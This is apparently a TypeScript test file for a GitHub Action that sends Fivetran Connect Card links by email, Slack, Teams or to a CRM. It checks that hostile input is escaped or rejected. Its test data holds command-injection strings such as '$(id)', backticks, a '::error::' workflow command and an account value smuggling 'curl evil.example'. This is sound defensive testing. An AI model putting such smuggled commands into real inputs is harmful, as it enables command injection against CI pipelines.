import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { ROOT } from '../act.ts';
import { linksIn } from '../issues.ts';
import type { World } from '../world.ts';
import type { Scenario } from './scenario.ts';

/** What anybody may type into a form. */
const HOSTILE = 'Acme "Ltd" $(id) `id` $' + '{{ 1 }}\n::error::';

/** Passing a link on: to another job, to chats, by mail, to a CRM. */
export const handOver: Scenario[] = [
  {
    example: 'email.yml',
    event: 'workflow_dispatch',
    prepare: () => ({
      inputs: { service: 'google_ads', schema: 'acme', email: 'nina@example.com' },
    }),
    async check({ fivetran, mail }) {
      const [message = '', ...more] = mail.received;
      assert.equal(more.length, 0, 'one mail was sent');
      assert.match(message, /^To: nina@example\.com$/m);
      assert.match(message, /^Valid until: .+ UTC$/m);
      await fivetran.completeCard(linksIn(message)[0] ?? '');
    },
  },
  {
    example: 'slack.yml',
    event: 'workflow_dispatch',
    prepare: () => ({ inputs: { service: 'google_ads', schema: 'acme' } }),
    async check(world) {
      const [team = '', ...more] = world.webhook.sentTo('slack');
      assert.equal(more.length, 0, 'the team gets one message');
      assert.match(
        JSON.parse(team).text,
        /^Connect Card for \*acme\*: linked \(<https:\/\/\S+\|run>\)$/,
      );
      assert.doesNotMatch(team, /auth=/, 'without the link');
      const [customer = '{}'] = world.webhook.sentTo('slack-private');
      const { text, unfurl_links } = JSON.parse(customer);
      assert.equal(unfurl_links, false, 'Slack opens no link');
      // As Slack shows it.
      await complete(world, text.replaceAll('&amp;', '&'));
    },
  },
  {
    example: 'slack.yml',
    event: 'workflow_dispatch',
    fails: true,
    title: 'a schema with markup',
    settings: () => ({ without: ['SLACK_PRIVATE_WEBHOOK_URL'] }),
    prepare: () => ({ inputs: { service: 'google_ads', schema: '<!channel> "$(id)" & co' } }),
    check({ webhook }) {
      const [team = '{}'] = webhook.sentTo('slack');
      assert.match(JSON.parse(team).text, /\*&lt;!channel&gt; "\$\(id\)" &amp; co\*: failed/);
      assert.deepEqual(webhook.sentTo('slack-private'), []);
    },
  },
  {
    example: 'teams.yml',
    event: 'workflow_dispatch',
    prepare: () => ({ inputs: { service: 'google_ads', schema: 'acme' } }),
    async check(world) {
      assert.deepEqual(world.webhook.sentTo('teams').map(cardText), [
        'Connect Card for acme: linked',
      ]);
      const [message = '', ...more] = world.webhook.sentTo('teams-private').map(cardText);
      assert.equal(more.length, 0, 'one message with the link');
      await complete(world, message);
    },
  },
  {
    example: 'teams.yml',
    event: 'workflow_dispatch',
    fails: true,
    title: 'a schema with markup',
    prepare: () => ({ inputs: { service: 'google_ads', schema: '[a](http://x.example) "$(id)"' } }),
    check({ webhook }) {
      const text = 'Connect Card for [a](http://x.example) "$(id)": failed';
      assert.deepEqual(webhook.sentTo('teams').map(cardText), [text]);
      assert.deepEqual(webhook.sentTo('teams-private'), []);
    },
  },
  {
    example: 'link-to-another-job.yml',
    event: 'workflow_dispatch',
    prepare: () => ({ inputs: { service: 'google_ads', schema: 'acme' } }),
    async check(world) {
      const { link = '', until = '' } = world.webhook.received[0] ?? {};
      assert.ok(Date.parse(until) > Date.now(), 'it says how long the link works');
      await complete(world, link);
    },
  },
  {
    example: 'link-to-another-job.yml',
    event: 'workflow_dispatch',
    fails: true,
    title: 'without a key',
    settings: () => ({ without: ['HAND_OVER_KEY'] }),
    prepare: () => ({ inputs: { service: 'google_ads', schema: 'acme' } }),
    check({ fivetran, webhook }, _, log) {
      assert.match(log, /The secret HAND_OVER_KEY is missing/);
      assert.deepEqual(fivetran.requests, [], 'no link is created');
      assert.deepEqual(webhook.received, []);
    },
  },
  {
    example: 'from-crm.yml',
    event: 'repository_dispatch',
    prepare: () => requestFromCrm({ name: HOSTILE }),
    async check(world) {
      const [result = {}, ...more] = world.webhook.received;
      assert.equal(more.length, 0, 'the CRM gets one result');
      const { account, name, outcome, connection, link = '' } = result;
      assert.equal(name, HOSTILE, 'text stays text');
      assert.equal(outcome, 'linked');
      const [created] = world.fivetran.connections;
      assert.equal(created?.id, connection);
      assert.equal(created?.schema, `crm_${account}_google_ads`);
      await complete(world, link);
    },
  },
  {
    example: 'from-crm.yml',
    event: 'repository_dispatch',
    title: 'a service that is not on the list',
    prepare: () => requestFromCrm({ service: 'postgres' }),
    check({ fivetran, webhook }) {
      assert.deepEqual(fivetran.requests, [], 'a service that is not on the list');
      assert.deepEqual(webhook.received, []);
    },
  },
  {
    example: 'from-crm.yml',
    event: 'repository_dispatch',
    fails: true,
    title: 'an account that is none',
    prepare: () => requestFromCrm({ account: 'acme_google_ads"; curl evil.example #' }),
    check({ fivetran, webhook }) {
      assert.deepEqual(fivetran.requests, [], 'not an account');
      assert.deepEqual(webhook.received, []);
    },
  },
  {
    example: 'from-crm.yml',
    event: 'repository_dispatch',
    fails: true,
    title: 'a connection that exists',
    async prepare({ fivetran }) {
      const event = requestFromCrm({});
      const schema = `crm_${event.client_payload.account}_google_ads`;
      fivetran.addConnection({ groupId: 'acme_group', service: 'google_ads', schema });
      return event;
    },
    check({ fivetran, webhook }) {
      assert.equal(fivetran.connections.length, 1, 'no further connection');
      const { outcome, link } = webhook.received[0] ?? {};
      assert.deepEqual(
        { outcome, link },
        { outcome: 'failed', link: '' },
        'no link to an existing one',
      );
    },
  },
];

/** What the example's own curl command sends, as GitHub passes it on, with some of it changed. */
function requestFromCrm(changes: Record<string, string>) {
  const source = readFileSync(join(ROOT, 'examples/from-crm.yml'), 'utf8');
  const [, said = ''] = /--data '(.*?)'/s.exec(source.replace(/^# ?/gm, '')) ?? [];
  const { event_type, client_payload } = JSON.parse(said);
  assert.deepEqual(parse(source).on.repository_dispatch.types, [event_type]);
  return { action: event_type, client_payload: { ...client_payload, ...changes } };
}

/** A customer opens the one link in a text and fills in its card. */
async function complete({ fivetran }: World, text: string): Promise<void> {
  const [link = '', ...more] = linksIn(text);
  assert.equal(more.length, 0, 'one link');
  await fivetran.completeCard(link);
  assert.equal(fivetran.connections[0]?.status.setup_state, 'connected');
}

/** The lines that Teams shows of an Adaptive Card. */
function cardText(body: string): string {
  const [attachment] = JSON.parse(body).attachments;
  assert.equal(attachment.contentType, 'application/vnd.microsoft.card.adaptive');
  const lines: Array<{ type: string; inlines: Array<{ type: string; text: string }> }> =
    attachment.content.body;
  return lines
    .map(({ type, inlines }) => {
      assert.deepEqual([type, inlines.map((run) => run.type)], ['RichTextBlock', ['TextRun']]);
      return inlines[0]?.text;
    })
    .join('\n');
}
